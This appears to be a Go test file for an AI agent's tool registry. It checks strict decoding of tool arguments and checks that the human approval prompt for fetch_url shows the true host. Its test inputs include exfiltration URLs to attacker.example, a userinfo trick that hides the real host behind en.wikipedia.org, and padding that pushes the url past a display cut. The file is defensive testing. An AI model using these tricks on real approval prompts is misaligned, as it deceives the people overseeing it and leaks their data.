package agent

import (
	"encoding/json"
	"strings"
	"testing"
)

func TestToolArgumentsAreDecodedStrictly(t *testing.T) {
	t.Parallel()
	type args struct {
		URL string `json:"url"`
	}
	for raw, wantErr := range map[string]string{
		`{"url":"https://a.example/"}`:                         "",
		`{"url":"https://a.example/","url":"https://evil/"}`:   "comes twice",
		`{"url":"https://a.example/","extra":1}`:               "unknown field",
		`["https://a.example/"]`:                               "not a JSON object",
		`{"url":"https://a.example/"} {"url":"https://evil/"}`: "follows",
		`{"url":"` + strings.Repeat("a", 20000) + `"}`:         "longer than",
	} {
		var v args
		err := decodeArgs(json.RawMessage(raw), &v)
		if wantErr == "" && err != nil || wantErr != "" && (err == nil || !strings.Contains(err.Error(), wantErr)) {
			t.Errorf("decodeArgs(%.60s) = %v, want %q", raw, err, wantErr)
		}
	}
}

// What a person approving fetch_url is shown comes from the parsed URL and
// is never cut where the target is: the attacks of the review get either a
// refusal before anyone is asked, or a prompt that names the real host.
func TestTheFetchPromptShowsTheRealTarget(t *testing.T) {
	t.Parallel()
	r := NewRegistry(BuiltinTools(ToolEnv{})...)
	padding := strings.Repeat("x", 1500)

	// A long extra key sorting first pushed url past the old 1,500-character cut.
	if _, err := r.Describe("fetch_url", `{"`+padding+`":"1","url":"https://attacker.example/exfil"}`); err == nil {
		t.Error("an extra key was accepted")
	}
	// The harmless host is the user name; the real one sits past the cut.
	userinfo := `{"url":"http://en.wikipedia.org:443&title=` + padding + `@attacker.example:8080/exfil?d=secret"}`
	if _, err := r.Describe("fetch_url", userinfo); err == nil || !strings.Contains(err.Error(), "user name") {
		t.Errorf("a URL with userinfo: %v", err)
	}
	if _, err := r.Describe("fetch_url", `{"url":"https://a.example/?q=`+strings.Repeat("y", 3000)+`"}`); err == nil {
		t.Error("an over-long URL was accepted")
	}
	got, err := r.Describe("fetch_url", `{"url":"https://пример.испытание:8443/путь?q=1"}`)
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"host: пример.испытание (xn--e1afmkfd.xn--80akhbyknj4f)", "port: 8443", "query: q=1"} {
		if !strings.Contains(got, want) {
			t.Errorf("prompt %q lacks %q", got, want)
		}
	}
	// Tools without a Describe show every argument whole, or are refused.
	if got, err := r.Describe("set_reminder", `{"text":"tea","in":"5m"}`); err != nil || got != "text: tea\nin: 5m" {
		t.Errorf("set_reminder described as %q, %v", got, err)
	}
	if _, err := r.Describe("set_reminder", `{"text":"`+strings.Repeat("z", 4000)+`"}`); err == nil {
		t.Error("a call too long to show whole was described")
	}
}
